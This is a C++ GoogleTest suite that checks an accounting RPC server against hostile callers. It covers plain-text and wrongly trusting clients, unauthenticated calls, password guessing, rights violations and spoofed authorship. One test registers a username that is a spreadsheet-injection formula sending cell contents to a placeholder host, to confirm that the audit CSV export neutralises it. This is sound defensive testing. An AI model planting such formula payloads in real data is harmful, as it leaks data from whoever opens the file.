// The built server on its TLS port, tried as a stranger on the office network would: a caller
// that has not identified itself, a plain-text client, a client that trusts the wrong
// certificate, a guesser of passwords, a user beyond their rights, and a caller claiming to
// write as someone else. Each is refused and the balances stay as they were.
#include <gtest/gtest.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <string>
#include <vector>

#include "db/Connection.h"
#include "rpc/Client.h"
#include "rpc/RpcError.h"
#include "support/RunCommand.h"
#include "support/ServerProcess.h"

namespace {

using nlohmann::json;
using Clock = std::chrono::steady_clock;

const std::string kModule = "Rdq63500.rdmSaldComer.";

// Certificates for 127.0.0.1 made by the script an administrator runs.
class Certificates {
  public:
    Certificates()
        : dir_(std::filesystem::temp_directory_path() /
               ("saldo-certs-" + std::to_string(::getpid()))) {
        const std::string command = "bash '" + std::string(SALDO_SOURCE_DIR) +
                                    "/scripts/make-certificates.sh' '" + dir_.string() +
                                    "' 127.0.0.1 >/dev/null";
        if (std::system(command.c_str()) != 0) throw std::runtime_error("make-certificates failed");
    }
    ~Certificates() { std::filesystem::remove_all(dir_); }
    std::string File(const char* name) const { return (dir_ / name).string(); }

  private:
    std::filesystem::path dir_;
};

// What a plain-text client hears on the TLS port after sending a call: every byte until the
// server closes, or a second passes.
std::string PlainTextAnswer(int port) {
    const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_port = htons(static_cast<std::uint16_t>(port));
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    std::string heard;
    if (::connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) == 0) {
        const std::string call = R"({"jsonrpc":"2.0","id":1,"method":")" + kModule +
                                 R"(GetSaldComer","params":["01",""]})" + "\n";
        (void)::send(fd, call.data(), call.size(), MSG_NOSIGNAL);
        pollfd wait{fd, POLLIN, 0};
        char chunk[4096];
        while (::poll(&wait, 1, 1000) > 0) {
            const ssize_t n = ::recv(fd, chunk, sizeof chunk, 0);
            if (n <= 0) break;
            heard.append(chunk, static_cast<std::size_t>(n));
        }
    }
    ::close(fd);
    return heard;
}

class HostileCallerTest : public testing::Test {
  protected:
    HostileCallerTest()
        : server_(SALDO_SERVER_BINARY, "sqlite",
                  {"--tls-cert", certificates_.File("server.pem"), "--tls-key",
                   certificates_.File("server.key")}) {}

    std::unique_ptr<rpc::Client> Connect(const rpc::TlsTrust& trust,
                                         rpc::ClientOptions options = {}) {
        rpc::Endpoint endpoint;
        endpoint.transport = rpc::Transport::Tls;
        endpoint.host = "127.0.0.1";
        endpoint.port = static_cast<std::uint16_t>(server_.Port());
        return std::make_unique<rpc::Client>(endpoint, std::move(options), trust);
    }
    rpc::TlsTrust Trusted() const { return {certificates_.File("ca.pem"), {}}; }

    // Adds a user with a password and rights through the administrator's command.
    void AddUser(const std::string& name, const std::string& right) {
        const std::string command = "echo 'senha-forte-1' | '" + std::string(SALDO_SERVER_BINARY) +
                                    "' user add '" + name + "' --password-stdin --right '" + right +
                                    "' --db '" + server_.DatabaseURL() + "' >/dev/null";
        ASSERT_EQ(std::system(command.c_str()), 0) << name;
    }

    // The error code a call gets, 0 when it succeeds.
    static int CodeOf(rpc::Client& client, const std::string& method, const json& params) {
        try {
            client.Call(method, params);
            return 0;
        } catch (const rpc::RpcError& e) {
            return e.Code();
        }
    }

    long long Balances() {
        auto connection = db::Connection::Open(server_.DatabaseURL());
        return std::stoll(
            *connection->Select("SELECT COUNT(*) AS N FROM SALDCOME").rows.at(0).at(0));
    }

    json InsertPacket(rpc::Client& client) {
        const json fields = client.Call(kModule + "GetSaldComer", {"01", ""})["fields"];
        const json row = {"2025-03-31",
                          "2.1.1.01.0001",
                          "Fornecedores Nacionais",
                          "Metalúrgica São Jorge Ltda.",
                          150.25,
                          "Não",
                          "01",
                          "F",
                          "000001",
                          nullptr,
                          nullptr};
        return {{"fields", fields}, {"changes", {{{"kind", "inserted"}, {"new", row}}}}};
    }

    Certificates certificates_;
    testsupport::ServerProcess server_;
};

TEST_F(HostileCallerTest, AStrangerReadsWritesAndImportsNothing) {
    const long long before = Balances();
    EXPECT_EQ(PlainTextAnswer(server_.Port()), "");

    // A pinned fingerprint of another certificate, and a server certificate named as if it
    // were the authority.
    std::string otherPin;
    for (int i = 0; i < 31; ++i) otherPin += "AA:";
    otherPin += "AB";
    for (const rpc::TlsTrust& wrong :
         {rpc::TlsTrust{{}, otherPin}, rpc::TlsTrust{certificates_.File("server.pem"), {}}}) {
        auto client = Connect(wrong);
        try {
            client->Call(kModule + "GetSaldComer", {"01", ""});
            ADD_FAILURE() << "a server not trusted was called";
        } catch (const rpc::TransportError& e) {
            EXPECT_NE(std::string(e.what()).find("não é confiável"), std::string::npos) << e.what();
        }
    }

    auto stranger = Connect(Trusted());
    const std::string file = "TcOqcztDb250YTtDw7NkaWdvO1ZhbG9yCg==";  // a header line
    const std::vector<std::pair<std::string, json>> calls = {
        {"GetSaldComer", {"01", ""}},
        {"GetSaldComer", {"02", "SaldClie"}},
        {"GetSaldComer", {"03", "SaldBanco"}},
        {"SetSaldComer", {"01", "", {{"fields", json::array()}, {"changes", json::array()}}}},
        {"ImportSaldComer", {"01", "F", file, false}},
        {"GetHistSaldComer", {"01", "", "2025-03-31", "2.1.1.01.0001", "000001"}},
        {"GetConfContabil", {"01", ""}},
    };
    for (const auto& [method, params] : calls)
        EXPECT_EQ(CodeOf(*stranger, kModule + method, params), rpc::kUnidentified) << method;
    EXPECT_EQ(Balances(), before);
}

TEST_F(HostileCallerTest, GuessesAreSlowedRightsHoldAndTheAuthorIsWhoLoggedIn) {
    // Six wrong passwords in a row: one answer for all, and from the third on each takes
    // longer than the one before.
    auto guesser = Connect(Trusted());
    std::vector<double> seconds;
    std::string refusal;
    for (int i = 0; i < 6; ++i) {
        const auto start = Clock::now();
        try {
            guesser->Call("Sessao.Entrar",
                          {i % 2 == 0 ? "teste" : "ninguem", "errada-" + std::to_string(i)});
            ADD_FAILURE() << "a wrong password was accepted";
        } catch (const rpc::RpcError& e) {
            EXPECT_EQ(e.Code(), rpc::kLoginRefused);
            if (i > 0) {
                EXPECT_EQ(e.what(), refusal);
            }
            refusal = e.what();
        }
        seconds.push_back(std::chrono::duration<double>(Clock::now() - start).count());
    }
    EXPECT_GE(seconds[3], 0.2);
    EXPECT_GE(seconds[5], 2 * 0.2 * 2);
    EXPECT_GT(seconds[5], seconds[3]);

    // A reader of company 01 reads it, but neither saves there nor reads 02.
    AddUser("leitor01", "01=consulta");
    rpc::ClientOptions reader;
    reader.credentials = [](const rpc::LoginPrompt&) {
        return std::optional<rpc::Credentials>(rpc::Credentials{"leitor01", "senha-forte-1"});
    };
    auto consulta = Connect(Trusted(), reader);
    const json packet = InsertPacket(*consulta);
    const long long before = Balances();
    EXPECT_EQ(CodeOf(*consulta, kModule + "SetSaldComer", {"01", "", packet}), rpc::kForbidden);
    EXPECT_EQ(CodeOf(*consulta, kModule + "GetSaldComer", {"02", ""}), rpc::kForbidden);
    EXPECT_EQ(Balances(), before);

    // The author recorded is the one who logged in, whatever the call claims; a name shaped as
    // a spreadsheet formula comes out of the audit export as text.
    const std::string formula = R"(=HYPERLINK("http://x.invalid/"&A1,"ok"))";
    AddUser(formula, "*=lançamento");
    rpc::ClientOptions writer;
    writer.credentials = [&](const rpc::LoginPrompt&) {
        return std::optional<rpc::Credentials>(rpc::Credentials{formula, "senha-forte-1"});
    };
    auto lancamento = Connect(Trusted(), writer);
    lancamento->Call(kModule + "SetSaldComer", {"01", "", packet, nullptr, "diretor.financeiro"});
    EXPECT_EQ(Balances(), before + 1);

    const std::string command = "'" + std::string(SALDO_SERVER_BINARY) + "' audit --db '" +
                                server_.DatabaseURL() + "' --format csv";
    const std::string audit = testsupport::RunCommand(command).output;
    EXPECT_EQ(audit.find("diretor.financeiro"), std::string::npos) << audit;
    EXPECT_NE(audit.find("\"'=HYPERLINK("), std::string::npos) << audit;
}

}  // namespace
